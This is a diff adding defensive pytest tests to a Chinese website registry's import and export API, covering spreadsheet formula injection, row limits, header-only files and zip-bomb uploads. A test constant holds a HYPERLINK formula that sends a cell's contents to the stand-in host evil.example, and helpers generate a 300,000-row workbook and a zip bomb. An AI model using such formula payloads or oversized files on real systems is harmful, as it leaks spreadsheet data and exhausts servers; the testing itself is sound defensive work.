@@ -126,3 +126,135 @@ def test_list_filters_search_sort_and_paginate(registry, login):
     session_total = registry.get("/api/v1/accounts", headers=sup).json()["total"]
     assert session_total >= 97
     assert isinstance(Account, type)
+
+
+# --- issue 12: formula injection, import amplification, header-only files -------------------------------
+
+LINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+
+
+def test_exports_write_a_formula_name_as_text_in_xlsx_and_csv(registry, login):
+    from tests.registry.helpers import org_id, site_payload
+
+    sup = login("hancheng_supervisor")
+    host = new_unit("韩城市")[0]
+    created = registry.post("/api/v1/sites", headers=sup, json=site_payload(host, org_id("韩城市"), name=LINK,
+                                                                           override_reason="公式测试"))
+    assert created.status_code == 201, created.text
+    xlsx_export = registry.get("/api/v1/sites/export", headers=sup, params={"q": "HYPERLINK", "format": "xlsx"})
+    assert xlsx_export.status_code == 200
+    assert xlsx_export.headers["x-content-type-options"] == "nosniff"
+    assert xlsx_export.headers["content-disposition"].startswith("attachment; ")
+    sheet = load_workbook(io.BytesIO(xlsx_export.content)).active
+    cell = sheet["A2"]
+    assert cell.value == LINK and cell.data_type == "s" and cell.quotePrefix  # shown as the text, not run
+    csv_export = registry.get("/api/v1/sites/export", headers=sup, params={"q": "HYPERLINK", "format": "csv"})
+    assert csv_export.headers["x-content-type-options"] == "nosniff"
+    import csv
+    rows = list(csv.reader(io.StringIO(csv_export.content.decode("utf-8-sig"))))
+    assert rows[1][0] == "'" + LINK
+    # The CSV export, edited and imported again, gives the name back without the apostrophe.
+    header = rows[0]
+    row = dict(zip(header, rows[1]))
+    row.update({"首页网址": "https://formula-rt.hancheng.gov.cn/", "网站标识码": "", "主办单位": new_unit("韩城市")[1]})
+    out = io.StringIO()
+    csv.writer(out).writerows([header, [row[h] for h in header]])
+    imported = post(registry, sup, "sites", out.getvalue().encode("utf-8"), "往返.csv")
+    assert imported.status_code == 200, imported.text
+    back = registry.get("/api/v1/sites", headers=sup, params={"q": "formula-rt.hancheng"}).json()["items"]
+    assert [s["name"] for s in back] == [LINK]
+
+
+def raw_xlsx(rows: int) -> bytes:
+    """A workbook of `rows` data rows written as XML (as any generator may, without a <dimension>):
+    ~3 MB for 300,000 rows, far under the upload limit."""
+    import zipfile
+
+    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    parts = {
+        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
+        '+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
+        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
+        'PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+        'spreadsheetml.worksheet+xml"/></Types>',
+        "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        f'relationships"><Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/>'
+        '</Relationships>',
+        "xl/workbook.xml": f'<?xml version="1.0"?><workbook {ns} xmlns:r="{rel}"><sheets><sheet name="Sheet1" '
+        'sheetId="1" r:id="rId1"/></sheets></workbook>',
+        "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+        f'package/2006/relationships"><Relationship Id="rId1" Type="{rel}/worksheet" '
+        'Target="worksheets/sheet1.xml"/></Relationships>',
+    }
+    cells = "".join(f'<c r="{c}{{r}}" t="inlineStr"><is><t>{v}</t></is></c>'
+                    for c, v in (("A", "某某网站"), ("B", "https://a.gov.cn/"), ("C", "某单位")))
+    head = "".join(f'<c r="{c}1" t="inlineStr"><is><t>{v}</t></is></c>'
+                   for c, v in (("A", "网站名称"), ("B", "首页网址"), ("C", "主办单位")))
+    body = "".join(f'<row r="{r}">' + cells.replace("{r}", str(r)) + "</row>" for r in range(2, rows + 2))
+    parts["xl/worksheets/sheet1.xml"] = (f'<?xml version="1.0"?><worksheet {ns}><sheetData><row r="1">{head}</row>'
+                                         f"{body}</sheetData></worksheet>")
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, text in parts.items():
+            archive.writestr(name, text)
+    return out.getvalue()
+
+
+def test_a_300k_row_xlsx_is_refused_for_the_row_limit_quickly(registry, login, session):
+    import time
+
+    data = raw_xlsx(300_000)
+    assert len(data) < 5 * 1024 * 1024
+    before = count(session, Site)
+    started = time.process_time()
+    response = post(registry, login("weinan_supervisor"), "sites", data, "30万行.xlsx", dry_run=True)
+    elapsed = time.process_time() - started
+    assert response.status_code == 422 and response.json()["detail"]["code"] == "import_too_many_rows"
+    assert "10000" in response.json()["detail"]["message"]
+    assert elapsed < 3.0, f"{elapsed:.2f} s of CPU"  # was 17 s before any header was looked at
+    assert count(session, Site) == before
+
+
+def test_the_row_limit_is_configurable_and_a_small_file_still_imports(registry, login, monkeypatch):
+    from services.common.settings import get_settings
+
+    monkeypatch.setattr(get_settings(), "import_max_rows", 2)
+    sup = login("hancheng_supervisor")
+    unit = new_unit("韩城市")[1]
+    rows = [[f"限额网站{i}", f"https://limit{i}.hancheng.gov.cn/", "部门网站", "", "", "", "否", unit, "韩城市"]
+            for i in range(3)]
+    refused = post(registry, sup, "sites", xlsx(SITE_HEADERS, rows), "三行.xlsx", dry_run=True)
+    assert refused.status_code == 422 and refused.json()["detail"]["code"] == "import_too_many_rows"
+    csv_text = "\n".join(",".join(r) for r in [SITE_HEADERS, *rows]).encode()
+    assert post(registry, sup, "sites", csv_text, "三行.csv", dry_run=True).json()["detail"]["code"] == \
+        "import_too_many_rows"
+    ok = post(registry, sup, "sites", xlsx(SITE_HEADERS, rows[:1]), "一行.xlsx", dry_run=True)
+    assert ok.status_code == 200 and ok.json()["rows"] == 1
+
+
+def test_a_wrong_header_is_reported_before_the_rows(registry, login):
+    response = post(registry, login("weinan_supervisor"), "sites", xlsx(["名称", "网址"], [["a", "b"]] * 50), "x.xlsx")
+    assert response.status_code == 422 and response.json()["detail"]["code"] == "import_headers"
+    assert set(response.json()["detail"]["missing"]) == {"网站名称", "首页网址", "主办单位"}
+
+
+def test_a_header_only_csv_or_xlsx_is_a_clear_422(registry, login):
+    sup = login("weinan_supervisor")
+    for data, name in ((",".join(SITE_HEADERS).encode("utf-8-sig") + b"\r\n", "只有表头.csv"),
+                       (xlsx(SITE_HEADERS, []), "只有表头.xlsx")):
+        response = post(registry, sup, "sites", data, name)
+        assert response.status_code == 422, response.text
+        assert response.json()["detail"]["code"] == "import_no_rows"
+        assert response.json()["detail"]["message"].startswith("文件中没有数据行")
+    accounts = post(registry, sup, "accounts", "账号名称,账号类型,账号ID,主办单位\n".encode(), "账号.csv")
+    assert accounts.status_code == 422 and accounts.json()["detail"]["code"] == "import_no_rows"
+
+
+def test_an_xlsx_zip_bomb_is_refused_before_openpyxl(registry, login):
+    from tests.common.builders import office_bomb
+
+    response = post(registry, login("weinan_supervisor"), "sites", office_bomb(200, "xl/workbook.xml"), "炸弹.xlsx")
+    assert response.status_code == 422 and response.json()["detail"]["code"] in ("file_zip_bomb",
+                                                                                  "file_unpacked_too_large")
